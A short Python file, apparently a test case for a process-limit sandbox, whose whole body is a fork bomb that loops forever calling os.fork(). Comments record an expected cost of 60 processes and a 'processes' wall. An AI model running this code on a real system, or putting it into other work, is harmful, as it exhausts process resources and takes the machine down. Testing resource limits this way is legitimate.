# Starts processes without end.
# costs: 60 processes
# wall: processes
import os

while True:
    os.fork()
